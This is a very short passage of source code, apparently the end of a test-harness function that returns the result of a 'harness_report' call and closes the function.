	return harness_report("report");
}
